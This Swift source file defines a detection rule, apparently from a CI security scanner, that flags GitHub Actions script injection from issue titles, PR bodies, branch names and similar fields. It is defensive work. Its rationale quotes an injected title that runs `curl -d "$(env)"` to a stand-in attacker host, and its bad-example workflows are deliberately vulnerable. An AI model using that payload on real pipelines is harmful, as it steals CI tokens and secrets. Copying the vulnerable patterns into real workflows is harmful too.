import PalisadeCore

/// `run: echo "${{ github.event.issue.title }}"`: text an outsider writes, pasted into a script.
public struct GHAScriptInjection: WorkflowRule {
    public init() {}

    public let description = RuleDescription(
        id: "gha-script-injection",
        title: "Attacker-controlled text expanded into a script",
        severity: .high,
        pattern: .supplyChain,
        controls: [.ciPolicyValidation, .secretsManagement],
        mitre: ["T1059.004", "T1552.001"],
        appliesTo: [.workflow],
        rationale: """
            GitHub replaces `${{ ... }}` in `run:` before the shell sees the script, so the value \
            becomes code, and quoting it does not help. Anyone can choose an issue's or pull \
            request's title and body, a comment, a review, a branch name (`github.head_ref`, \
            `pull_request.head.ref`, `workflow_run.head_branch`), a commit message or author, or a \
            wiki page's name: a title such as `a"; curl -d "$(env)" https://evil.example #` runs \
            in the job, with its token and secrets. The same holds for `actions/github-script`'s \
            `script:`, which is JavaScript. The rule reports those contexts (and whole event \
            objects, as `toJSON(github.event)` prints them) in `run:` and `script:`, pointing at \
            the expression. Values outsiders cannot shape (`github.event.issue.number`, \
            `pull_request.head.sha`, `github.repository`) are not reported. The text is followed \
            where the workflow passes it on: a step that writes it to `$GITHUB_OUTPUT` \
            (`steps.ID.outputs.NAME`) or `$GITHUB_ENV`, an `env:` entry set from it (`env.NAME`), \
            and a job output set from either (`needs.JOB.outputs.NAME`); the finding is at the \
            use and names the source. Outputs of actions and `inputs.*` are not followed, and \
            `$NAME` read by the shell is the fix, not a finding.
            """,
        remediation: "Pass the value through an environment variable and quote it in the shell: `env: TITLE: ${{ github.event.issue.title }}` then `run: echo \"$TITLE\"` (in github-script, read `context.payload` or `process.env`).",
        references: [
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
            "https://securitylab.github.com/resources/github-actions-untrusted-input/",
        ],
        goodExamples: [
            """
            on: issues
            permissions:
              issues: write
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - env:
                      TITLE: ${{ github.event.issue.title }}
                    run: |
                      echo "New issue #${{ github.event.issue.number }}: $TITLE"
                  - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                    with:
                      script: |
                        const title = context.payload.issue.title
                  - run: echo "${{ github.event.pull_request.head.sha }} in ${{ github.repository }}"
                  - name: ${{ github.event.issue.title }}
                    run: echo "the step's name is not a script"
            """,
            """
            on: pull_request_target
            permissions:
              contents: read
            jobs:
              meta:
                runs-on: ubuntu-latest
                outputs:
                  sha: ${{ steps.head.outputs.sha }}
                steps:
                  - id: head
                    run: echo "sha=${{ github.event.pull_request.head.sha }}" >> "$GITHUB_OUTPUT"
                  - id: files
                    uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                    with:
                      script: return 1
                  - env:
                      TITLE: ${{ github.event.pull_request.title }}
                    run: |
                      echo "title: $TITLE, sha ${{ steps.head.outputs.sha }}"
                      echo "result ${{ steps.files.outputs.result }} in ${{ env.HOME_DIR }}"
              use:
                needs: meta
                runs-on: ubuntu-latest
                steps:
                  - run: git log -1 "${{ needs.meta.outputs.sha }}"
            """,
        ],
        badExamples: [
            """
            on:
              issues:
                types: [opened]
              pull_request_target:
            permissions:
              issues: write
            jobs:
              triage:
                runs-on: ubuntu-latest
                steps:
                  - run: |
                      echo "Triaging"
                      echo "title: ↓${{ github.event.issue.title }}" >> notes.txt
                  - run: git checkout -b "↓${{ github.head_ref }}"
                  - run: >
                      ./notify --body "↓${{ github.event.pull_request.body }}"
                      --author "↓${{ github.event.head_commit.author.name }}"
                  - run: echo '↓${{ toJSON(github.event) }}'
                  - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
                    with:
                      script: |
                        console.log("↓${{ github.event.comment.body }}")
            """,
            """
            on: push
            permissions:
              contents: read
            jobs:
              log:
                runs-on: ubuntu-latest
                steps:
                  - run: "echo \\"↓${{ github.event.commits[0].message }}\\""
            """,
            """
            on: issues
            permissions:
              issues: write
            env:
              ISSUE_BODY: ${{ github.event.issue.body }}
            jobs:
              read:
                runs-on: ubuntu-latest
                outputs:
                  title: ${{ steps.x.outputs.title }}
                steps:
                  - id: x
                    env:
                      T: ${{ github.event.issue.title }}
                    run: echo "title=$T" >> "$GITHUB_OUTPUT"
                  - run: echo "↓${{ steps.x.outputs.title }}"
                  - env:
                      AUTHOR: ${{ github.event.issue.user.login }}
                      TITLE: ${{ github.event.issue.title }}
                    run: |
                      echo "by $AUTHOR: ↓${{ env.TITLE }}"
                      echo "label=$TITLE" >> $GITHUB_ENV
                  - run: ./triage --label "↓${{ env.LABEL }}" --body "↓${{ env.ISSUE_BODY }}"
              act:
                needs: read
                runs-on: ubuntu-latest
                steps:
                  - run: gh issue edit --title "↓${{ needs.read.outputs.title }}"
            """,
        ],
        input: .workflow
    )

    /// Contexts an outsider writes: the patterns match the path or any property below it.
    static let untrusted = [
        "github.event.issue.title", "github.event.issue.body",
        "github.event.pull_request.title", "github.event.pull_request.body",
        "github.event.pull_request.head.ref", "github.event.pull_request.head.label",
        "github.event.pull_request.head.repo.default_branch", "github.event.pull_request.head.repo.description",
        "github.event.comment.body", "github.event.review.body", "github.event.review_comment.body",
        "github.event.discussion.title", "github.event.discussion.body",
        "github.event.pages.*.page_name", "github.event.commits.*.message", "github.event.commits.*.author",
        "github.event.head_commit.message", "github.event.head_commit.author",
        "github.event.workflow_run.head_branch", "github.event.workflow_run.head_commit.message",
        "github.event.workflow_run.head_commit.author", "github.event.workflow_run.display_title",
        "github.event.workflow_run.pull_requests.*.head.ref", "github.head_ref",
    ]

    /// Whole objects that hold such text: printing one (`toJSON(...)`) prints it.
    static let untrustedObjects: Set<String> = [
        "github", "github.event", "github.event.issue", "github.event.pull_request", "github.event.pull_request.head",
        "github.event.comment", "github.event.review", "github.event.review_comment", "github.event.discussion",
        "github.event.head_commit", "github.event.commits", "github.event.workflow_run", "github.event.pages",
    ]

    static func isUntrusted(_ path: ContextPath) -> Bool {
        untrustedObjects.contains(path.text) || untrusted.contains { path.matches($0) }
    }

    public func check(_ workflow: Workflow, _ report: inout WorkflowReporter) {
        let taint = WorkflowTaint(workflow, untrusted: Self.isUntrusted)
        for job in workflow.jobs {
            for step in job.steps {
                var scripts: [(Workflow.Value, String)] = []
                if let run = step.run { scripts.append((run, "run")) }
                if let action = step.action, action.repository == "actions/github-script", let script = step.input("script")?.value {
                    scripts.append((script, "with.script"))
                }
                for (script, part) in scripts {
                    for (expression, _) in script.expressions(naming: Self.isUntrusted) {
                        report.report(
                            workflow, job, step, expression.range, part: part,
                            message: "\(expression.text) is written by whoever opens the issue, pull request, comment or branch, and `${{ }}` pastes it into the \(part == "run" ? "script" : "github-script code") before it runs: pass it through `env:` and quote the variable.")
                    }
                    // The same text by a detour: a step output, an `env` value or a job output set from it.
                    guard let scope = taint.scopes[job.id]?[step.index] else { continue }
                    for expression in script.expressions {
                        let paths = ContextPath.all(in: expression.text)
                        guard !paths.contains(where: Self.isUntrusted),
                              let source = paths.lazy.compactMap({ scope.source(of: $0, untrusted: Self.isUntrusted) }).first else { continue }
                        report.report(
                            workflow, job, step, expression.range, part: part,
                            message: "\(expression.text) carries \(source.origin) (\(source.via)), which whoever opens the issue, pull request, comment or branch writes, and `${{ }}` pastes it into the \(part == "run" ? "script" : "github-script code") before it runs: pass it through `env:` and quote the variable.")
                    }
                }
            }
        }
    }
}
